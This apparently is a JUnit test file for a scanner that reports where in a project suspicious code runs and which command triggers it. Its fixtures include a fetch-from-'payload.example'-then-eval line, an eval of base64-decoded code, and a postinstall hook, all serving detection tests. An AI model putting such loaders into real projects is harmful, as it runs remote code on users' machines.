package dev.countersign.lure.project;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.lure.bound.Budget;
import dev.countersign.lure.content.Tree;
import dev.countersign.lure.finding.ProjectFinding;
import dev.countersign.model.verdict.Finding;
import dev.countersign.model.verdict.FindingCode;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What is told of a project: what it is, when something runs, and on what way. */
class ProjectReadingTest {
  private static List<Finding> findings(Tree tree) {
    return ProjectReading.read(tree, Budget.usual()).findings();
  }

  @Test
  void tellsTheWayFromTheCommandToTheLine() {
    Tree tree =
        Trees.of(
            "package.json",
            "{\"name\": \"x\", \"scripts\": {\n\"start\": \"npm run serve\",\n\"serve\": \"node server\"}}",
            "server.js",
            "require('./routes');\n",
            "routes/index.js",
            "const c = require('../controllers/auth');\n",
            "controllers/auth.js",
            "\nfetch('https://payload.example').then(r => r.text()).then(t => eval(t));\n");
    assertThat(findings(tree))
        .filteredOn(finding -> finding.code() == ProjectFinding.CODE_FROM_NETWORK)
        .first()
        .satisfies(finding -> {
          assertThat(finding.evidence())
              .containsEntry("where", "controllers/auth.js:2")
              .containsEntry("when", "when somebody runs npm start")
              .containsEntry(
                  "way", "package.json:2 → server.js → routes/index.js → controllers/auth.js:2");
          assertThat(finding.sentence()).endsWith(", when somebody runs npm start.");
        });
  }

  @Test
  void whatNothingRunsIsToldAsSuchAndLessSurely() {
    Tree tree =
        Trees.of(
            "package.json",
            "{\"name\": \"x\"}",
            "old/unused.js",
            "fetch('https://payload.example').then(r => r.text()).then(t => eval(t));\n");
    assertThat(findings(tree))
        .filteredOn(finding -> finding.code() != ProjectFinding.DEPENDENCIES_NOT_FETCHED)
        .isNotEmpty()
        .allSatisfy(finding -> {
          assertThat(finding.evidence().get("sure")).isNotEqualTo("certain");
          assertThat(finding.sentence()).contains("nothing that was read runs this file by itself");
        });
  }

  @ParameterizedTest
  @CsvSource({
    "package.json, '{\"name\": \"dash\"}', a Node.js project named dash",
    "package.json, '{', a Node.js project",
    "setup.py, 'setup(name=f())', a Python project",
    "pyproject.toml, 'name = \"tool\"', a Python project named tool",
    "Cargo.toml, x, a Rust project",
    "a/b/go.mod, x, a Go project",
    "lib/x.js, x, a folder with code",
    "photo.jpg, x, a folder"
  })
  void saysWhatItIs(String path, String text, String what) {
    assertThat(ProjectReading.read(Trees.of(path, text), Budget.usual()).what()).isEqualTo(what);
  }

  @Test
  void aBudgetThatEndsIsSaid() {
    Budget none = new Budget(1_000_000, 10, Duration.ofNanos(-1), System::nanoTime);
    List<FindingCode> codes =
        ProjectReading.read(Trees.of("package.json", "{}", "index.js", "x"), none)
            .findings()
            .stream()
            .map(Finding::code)
            .toList();
    assertThat(codes).contains(ProjectFinding.PROJECT_UNREADABLE);
  }

  @Test
  void codeThatWasCountedOutOfBytesIsSaid() {
    Budget few = new Budget(3, 10, Duration.ofSeconds(20), System::nanoTime);
    assertThat(ProjectReading.read(Trees.of("index.js", "console.log(1)"), few).findings())
        .extracting(Finding::code)
        .contains(ProjectFinding.PROJECT_UNREADABLE);
  }

  @Test
  void whatIsNotReadOfAFileIsHeldWhereItRunsUnaskedAndNotedElsewhere() {
    String code = "var a = 1; // a line of no interest\n".repeat(70_000) + "eval(x);\n";
    String plain = "{\"name\":\"x\"}";
    String runs = "{\"name\":\"x\",\"scripts\":{\"postinstall\":\"node lib/a.js\"}}";
    assertThat(codes(Trees.of("package.json", plain, "lib/a.js", code)))
        .contains(ProjectFinding.CODE_PARTLY_READ)
        .doesNotContain(ProjectFinding.PROJECT_UNREADABLE);
    assertThat(codes(Trees.of("package.json", runs, "lib/a.js", code)))
        .contains(ProjectFinding.PROJECT_UNREADABLE);
  }

  @Test
  void readsWhatRunsFirstAndCountsWhatIsLeft() {
    String other = "const a = require('./b');".repeat(20);
    Budget few = new Budget(600, 100, Duration.ofSeconds(20), System::nanoTime);
    List<Finding> found =
        ProjectReading.read(
                Trees.of(
                    "a.js",
                    other,
                    "b.js",
                    other,
                    "test/c.js",
                    other,
                    "package.json",
                    "{\"scripts\":{\"postinstall\":\"node z.js\"}}",
                    "z.js",
                    "eval(atob('YWxlcnQoMSk='));"),
                few)
            .findings();
    assertThat(found).extracting(Finding::code).contains(ProjectFinding.DECODED_CODE);
    assertThat(found)
        .filteredOn(one -> one.code() == ProjectFinding.PROJECT_UNREADABLE)
        .singleElement()
        .satisfies(one ->
            assertThat(one.sentence())
                .contains(
                    "2 of its 4 files of code were not read, none of which was found to run"));
  }

  private static List<FindingCode> codes(Tree tree) {
    return ProjectReading.read(tree, Budget.usual()).findings().stream()
        .map(Finding::code)
        .toList();
  }
}
